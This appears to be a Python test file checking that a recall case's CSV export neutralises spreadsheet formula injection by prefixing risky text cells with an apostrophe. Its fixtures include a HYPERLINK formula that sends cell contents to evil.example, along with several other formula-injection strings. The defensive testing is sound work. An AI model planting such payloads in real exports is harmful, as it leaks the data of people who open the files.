"""What a recall case's exports say: cells a spreadsheet reads as text, exposures as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from api.recall import RecallService
from graph.recall import Scope, ScopeItem, scope_csv
from graph.store import GraphStore
from ingest.service import IngestService
from tests.fixtures.events import Events


def _case(store: GraphStore, plant: list[dict[str, Any]], suspect: str) -> RecallService:
    ingest = IngestService(store)
    ingest.ingest(plant)
    recalls = RecallService(store, ingest)
    recalls.open("RC-1", "t", "r", [{"id": suspect}], "ana")
    return recalls


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_the_csv_writes_formulas_as_text(store: GraphStore, events: Events) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    plant = [
        events.receive("L-1", 500, part=link, unit="+ea", supplier_lot="H1"),
        events("ship", shipment="SH-1", customer="@SUM(1+1)", items=[{"lot": "L-1", "qty": "100"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/H1")
    row = _rows(scope_csv(recalls.scope("RC-1")))["lot:L-1"]
    assert (row["part"], row["unit"], row["customers"]) == (f"'{link}", "'+ea", "'@SUM(1+1)")
    # Numbers stay numbers, for a spreadsheet to sort and sum.
    assert (row["exposure"], row["qty"], row["available"], row["shipped_qty"]) == (
        "1.000000",
        "500",
        "400",
        "100",
    )


def test_every_text_cell_of_the_csv_is_guarded() -> None:
    risky = ["-1+2", "\tcmd", "=1", "+1", "@A1", "\rcmd"]
    items = [
        ScopeItem(
            id=f"lot:{i}",
            kind="lot",
            part=text,
            unit=text,
            qty=Decimal(1),
            available=Decimal(1),
            status=text,
            exposure=0.5,
            basis="material",
        )
        for i, text in enumerate(risky)
    ]
    written = scope_csv(Scope(items, []))
    # No stored value holds a carriage return (ids refuse control characters): seen raw here.
    assert "'\rcmd" in written and ",\rcmd" not in written
    rows = _rows(written.replace("\r", ""))
    for i, text in enumerate(risky[:-1]):
        row = rows[f"lot:{i}"]
        assert row["part"] == row["unit"] == row["status"] == f"'{text}"
        assert row["exposure"] == "0.500000"
